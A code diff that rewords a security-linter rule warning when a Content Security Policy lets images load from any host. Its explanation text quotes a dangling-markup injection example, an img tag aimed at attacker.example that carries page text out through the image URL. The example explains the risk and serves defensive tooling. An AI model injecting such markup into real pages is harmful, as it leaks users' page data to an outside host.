@@ -20,13 +20,12 @@ extern const RuleSpec kRule = {
         .category = Category::Security,
         .confidence = Confidence::Certain,
         .title = "Images may come from any host",
-        .message = "{0} in {1} lets the page ask every host for an image.",
-        .why = "The address of an image can carry data out: injected markup such as <img "
-               "src='https://attacker.example/? with an open quote swallows the page's text "
-               "up to the next quote and sends it along. Pages that show images from "
-               "everywhere need it all the same.",
-        .advice = "List the hosts of your images, or fetch foreign images through a host of your "
-                  "own.",
+        .message = "{0} in {1} lets the page load images from any host.",
+        .why = "An image URL can carry data out: injected markup such as <img "
+               "src='https://attacker.example/? with an open quote swallows the page's text up to "
+               "the next quote and sends it to the attacker. Pages that show images from "
+               "everywhere have to accept this.",
+        .advice = "List your image hosts, or serve other sites' images through your own host.",
         .references = {"https://www.w3.org/TR/CSP3/#directive-img-src",
                        "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                        "Content-Security-Policy/img-src"},
